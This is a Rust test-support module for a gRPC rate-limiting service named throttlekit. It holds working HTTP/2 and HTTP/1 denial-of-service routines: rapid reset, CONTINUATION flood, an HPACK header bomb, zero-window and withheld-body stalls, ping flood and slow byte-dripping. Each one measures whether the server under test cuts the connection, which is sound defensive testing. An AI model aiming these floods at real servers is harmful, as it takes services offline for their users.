//! Attacks, byte by byte. Each goes on until the server ends it, or for as long as it is told to.

use std::io;
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::Duration;

use prost::Message;
use throttlekit_proto::v1::CheckRequest;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWriteExt, BufReader};
use tokio::net::TcpStream;
use tokio::net::tcp::OwnedWriteHalf;
use tokio::sync::Mutex;
use tokio::task::JoinHandle;

use crate::client::{CHECK, framed};
use crate::http2::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, Head, PING, PREFACE, RST_STREAM,
    WINDOW_UPDATE, frame, header, opening, request_headers,
};

/// A listener under attack, and the token that the attacker sends.
#[derive(Clone, Debug)]
pub(crate) struct Listener {
    pub(crate) address: SocketAddr,
    pub(crate) token: Option<String>,
}

impl From<SocketAddr> for Listener {
    fn from(address: SocketAddr) -> Self {
        Self { address, token: None }
    }
}

impl Listener {
    /// The value of its `authorization` header.
    pub(crate) fn authorization(&self) -> Option<String> {
        self.token.as_ref().map(|token| format!("Bearer {token}"))
    }

    /// The headers of a gRPC request, as HPACK writes them.
    fn request_headers(&self, path: &str) -> Vec<u8> {
        let authorization = self.authorization().map(|value| header("authorization", &value));
        [request_headers(path), authorization.unwrap_or_default()].concat()
    }
}

fn ask() -> Vec<u8> {
    let ask = CheckRequest { policy: "api".into(), key: "attacked".into(), ..CheckRequest::default() };
    framed(&ask.encode_to_vec()).to_vec()
}

/// A connection that reads whatever comes and answers pings, so that only what it is meant to do wrong is wrong.
pub(crate) struct Wire {
    write: Arc<Mutex<OwnedWriteHalf>>,
    /// Ends when the server ends the connection.
    ended: JoinHandle<()>,
    pongs: Arc<AtomicU32>,
}

impl Wire {
    async fn open(listener: &Listener, settings: &[u8]) -> io::Result<Self> {
        Self::with(listener, settings, true).await
    }

    async fn with(listener: &Listener, settings: &[u8], answers_pings: bool) -> io::Result<Self> {
        let tcp = TcpStream::connect(listener.address).await?;
        tcp.set_nodelay(true)?;
        let (read, mut write) = tcp.into_split();
        write.write_all(&opening(settings)).await?;
        let (write, pongs) = (Arc::new(Mutex::new(write)), Arc::<AtomicU32>::default());
        let pong = (write.clone(), pongs.clone());
        let ended = tokio::spawn(async move {
            let mut read = BufReader::new(read);
            while let Ok((kind, flags, payload)) = next_frame(&mut read).await {
                if kind == PING && flags & ACK == 0 && answers_pings {
                    pong.1.fetch_add(1, Ordering::Relaxed);
                    // The end of the connection is seen by reading.
                    let _ = pong.0.lock().await.write_all(&frame(PING, ACK, 0, &payload)).await;
                }
            }
        });
        Ok(Self { write, ended, pongs })
    }

    /// Says whether the server was there to take it.
    async fn send(&self, bytes: &[u8]) -> bool {
        !self.ended.is_finished() && self.write.lock().await.write_all(bytes).await.is_ok()
    }

    /// Sends a burst of frames for each of so many streams, until the server takes no more. How many it took.
    async fn send_streams(&self, streams: u32, burst: impl Fn(u32) -> Vec<u8>) -> u32 {
        for number in 0..streams {
            if !self.send(&burst(2 * number + 1)).await {
                return number;
            }
        }
        streams
    }

    /// The same. How many streams that took, if the server did end the connection.
    async fn streams_until_ended(mut self, streams: u32, burst: impl Fn(u32) -> Vec<u8>) -> Option<u32> {
        let sent = self.send_streams(streams, burst).await;
        (sent < streams || self.ended_within(Duration::from_secs(1)).await).then_some(sent)
    }

    /// Returns the number of pings that it answered.
    pub(crate) fn pongs(&self) -> u32 {
        self.pongs.load(Ordering::Relaxed)
    }

    pub(crate) async fn ended_within(&mut self, time: Duration) -> bool {
        tokio::time::timeout(time, &mut self.ended).await.is_ok()
    }
}

impl Drop for Wire {
    fn drop(&mut self) {
        // The other half of the connection.
        self.ended.abort();
    }
}

/// The kind, the flags and what is in it.
async fn next_frame(read: &mut (impl AsyncRead + Unpin)) -> io::Result<(u8, u8, Vec<u8>)> {
    let mut head = [0; 9];
    read.read_exact(&mut head).await?;
    let head = Head::read(head);
    let mut payload = vec![0; head.length];
    read.read_exact(&mut payload).await?;
    Ok((head.kind, head.flags, payload))
}

/// The frames of a whole request.
fn whole(stream: u32, headers: &[u8], body: &[u8]) -> Vec<u8> {
    [frame(HEADERS, END_HEADERS, stream, headers), frame(DATA, END_STREAM, stream, body)].concat()
}

/// Opens streams and takes them back at once, until the connection is ended. How many streams that took, if the
/// server did end it.
pub(crate) async fn rapid_reset(listener: impl Into<Listener>, streams: u32) -> io::Result<Option<u32>> {
    let listener = listener.into();
    let (headers, ask) = (listener.request_headers(CHECK), ask());
    let burst = |stream| {
        let reset = frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes());
        [whole(stream, &headers, &ask), reset].concat()
    };
    Ok(Wire::open(&listener, &[]).await?.streams_until_ended(streams, burst).await)
}

/// Sends requests that make the server end their streams: a window update of nothing is an error of the stream.
pub(crate) async fn made_reset(listener: impl Into<Listener>, streams: u32) -> io::Result<Option<u32>> {
    let listener = listener.into();
    let headers = listener.request_headers(CHECK);
    let burst = |stream| {
        let update = frame(WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes());
        [frame(HEADERS, END_HEADERS, stream, &headers), update].concat()
    };
    Ok(Wire::open(&listener, &[]).await?.streams_until_ended(streams, burst).await)
}

/// Goes on and on with the headers of one request. How many bytes it took, if the server ended it.
pub(crate) async fn continuation_flood(
    listener: impl Into<Listener>,
    bytes_max: usize,
) -> io::Result<Option<usize>> {
    let listener = listener.into();
    let mut wire = Wire::open(&listener, &[]).await?;
    wire.send(&frame(HEADERS, 0, 1, &listener.request_headers(CHECK))).await;
    let junk: Vec<u8> = (0..100).flat_map(|_| header("x-junk", &"j".repeat(100))).collect();
    let junk = frame(CONTINUATION, 0, 1, &junk);
    let mut sent = 0;
    while sent < bytes_max {
        if !wire.send(&junk).await {
            return Ok(Some(sent));
        }
        sent += junk.len();
    }
    let ended = wire.ended_within(Duration::from_secs(1)).await;
    Ok(ended.then_some(sent))
}

/// A long header, remembered by HPACK, and then named ten thousand times by a byte each: 40 MB of headers in 16 KB.
pub(crate) async fn header_bomb(listener: impl Into<Listener>, rounds: u32) -> io::Result<()> {
    let listener = listener.into();
    let wire = Wire::open(&listener, &[]).await?;
    for round in 0..rounds {
        let mut block = listener.request_headers(CHECK);
        // Remembered: `bomb` with 4000 bytes, whose length HPACK writes as 127 and then 3873 in groups of 7 bits.
        block.extend([0x40, 4]);
        block.extend(b"bomb");
        block.extend([127, 0xA1, 0x1E]);
        block.extend(std::iter::repeat_n(b'b', 4000));
        block.extend(std::iter::repeat_n(0x80 | 62, 10_000));
        if !wire.send(&frame(HEADERS, END_HEADERS | END_STREAM, round * 2 + 1, &block)).await {
            return Ok(());
        }
    }
    Ok(())
}

/// Asks for much and takes none of it: a window of nothing, pings answered.
pub(crate) async fn zero_window(listener: impl Into<Listener>, streams: u32) -> io::Result<Wire> {
    let listener = listener.into();
    // SETTINGS_INITIAL_WINDOW_SIZE of 0.
    let wire = Wire::open(&listener, &[0, 4, 0, 0, 0, 0]).await?;
    let (headers, ask) = (listener.request_headers(CHECK), ask());
    wire.send_streams(streams, |stream| whole(stream, &headers, &ask)).await;
    Ok(wire)
}

/// Asks for as many streams of denials and reads none of them.
pub(crate) async fn unread_watches(listener: impl Into<Listener>, streams: u32) -> io::Result<Wire> {
    let listener = listener.into();
    let wire = Wire::open(&listener, &[0, 4, 0, 0, 0, 0]).await?;
    let (headers, all) = (listener.request_headers("/throttlekit.v1.Monitor/Watch"), framed(&[]));
    wire.send_streams(streams, |stream| whole(stream, &headers, &all)).await;
    Ok(wire)
}

/// Requests whose bodies never come, as many as a connection may have.
pub(crate) async fn withheld_bodies(listener: impl Into<Listener>, streams: u32) -> io::Result<Wire> {
    let listener = listener.into();
    let wire = Wire::open(&listener, &[]).await?;
    let headers = listener.request_headers(CHECK);
    wire.send_streams(streams, |stream| frame(HEADERS, END_HEADERS, stream, &headers)).await;
    Ok(wire)
}

/// Streams of health, whose answers are read.
pub(crate) async fn health_watches(listener: impl Into<Listener>, streams: u32) -> io::Result<Wire> {
    let listener = listener.into();
    let wire = Wire::open(&listener, &[]).await?;
    let headers = listener.request_headers("/grpc.health.v1.Health/Watch");
    wire.send_streams(streams, |stream| whole(stream, &headers, &[0; 5])).await;
    Ok(wire)
}

/// Pings as fast as they go. How many it took, if the server ended it.
pub(crate) async fn ping_flood(listener: impl Into<Listener>, pings: u32) -> io::Result<Option<u32>> {
    const BURST: u32 = 100;
    let listener = listener.into();
    let wire = Wire::open(&listener, &[]).await?;
    let burst = frame(PING, 0, 0, &[0; 8]).repeat(BURST as usize);
    for sent in (0..pings).step_by(BURST as usize) {
        if !wire.send(&burst).await {
            return Ok(Some(sent));
        }
    }
    Ok(None)
}

/// Begins the headers of a request over HTTP/2 and never ends them. A ping cannot be answered in the middle of them:
/// who keeps to that stays silent, and who answers breaks the rules of HTTP/2.
pub(crate) async fn unended_headers(listener: impl Into<Listener>, answers_pings: bool) -> io::Result<Wire> {
    let listener = listener.into();
    let wire = Wire::with(&listener, &[], answers_pings).await?;
    wire.send(&frame(HEADERS, 0, 1, &listener.request_headers(CHECK)[..10])).await;
    Ok(wire)
}

/// Sends some bytes at once and the rest one by one, with a pause after each, until the server ends it. Whether it did in time.
pub(crate) async fn drip(
    address: SocketAddr,
    at_once: &[u8],
    bytes: &[u8],
    pause: Duration,
    time: Duration,
) -> io::Result<bool> {
    let tcp = TcpStream::connect(address).await?;
    tcp.set_nodelay(true)?;
    let (mut read, mut write) = tcp.into_split();
    let reading = async {
        let mut bytes = [0; 1024];
        while read.read(&mut bytes).await.is_ok_and(|read| read > 0) {}
    };
    let dripping = async {
        let _ = write.write_all(at_once).await;
        for byte in bytes {
            if write.write_all(&[*byte]).await.is_err() {
                break;
            }
            tokio::time::sleep(pause).await;
        }
        std::future::pending::<()>().await;
    };
    let ended = async {
        tokio::select! {
            () = reading => {},
            () = dripping => {},
        }
    };
    Ok(tokio::time::timeout(time, ended).await.is_ok())
}

/// The first bytes of HTTP/2, to be sent slowly.
pub(crate) const SLOW_PREFACE: &[u8] = PREFACE.split_at(20).0;
/// The headers of an HTTP/1 request but for their end: enough to pass for someone who speaks it.
pub(crate) const HEAD_BEGUN: &[u8] = b"GET /0 HTTP/1.1\r\nhost: a\r\nx-a: ";
/// Bytes that are repeated in them.
pub(crate) const HEAD_GOES_ON: &[u8] = &[b'b'; 400];

/// The status of an answer to JSON, and the answer.
pub(crate) async fn post(
    listener: impl Into<Listener>,
    path: &str,
    json: &[u8],
) -> io::Result<(u16, String)> {
    let listener = listener.into();
    let authorization =
        listener.authorization().map_or(String::new(), |value| format!("authorization: {value}\r\n"));
    let head = format!(
        "POST {path} HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\
         {authorization}connection: close\r\n\r\n",
        json.len()
    );
    let answer = http1(listener.address, &[head.as_bytes(), json].concat()).await?;
    let status = answer.split(' ').nth(1).and_then(|status| status.parse().ok());
    Ok((status.ok_or_else(|| io::Error::other("no status"))?, answer))
}

/// A page, over a connection of its own.
pub(crate) async fn get(address: SocketAddr, path: &str) -> io::Result<String> {
    let head = format!("GET {path} HTTP/1.1\r\nhost: a\r\nconnection: close\r\n\r\n");
    http1(address, head.as_bytes()).await
}

/// The value of a metric without labels, or the sum over all labels.
pub(crate) fn metric(page: &str, name: &str) -> f64 {
    let lines =
        page.lines().filter(|line| line.strip_prefix(name).is_some_and(|rest| rest.starts_with([' ', '{'])));
    lines.filter_map(|line| line.rsplit(' ').next()?.parse::<f64>().ok()).sum()
}

async fn http1(address: SocketAddr, bytes: &[u8]) -> io::Result<String> {
    let mut tcp = TcpStream::connect(address).await?;
    tcp.write_all(bytes).await?;
    let mut answer = String::new();
    tcp.read_to_string(&mut answer).await?;
    Ok(answer)
}
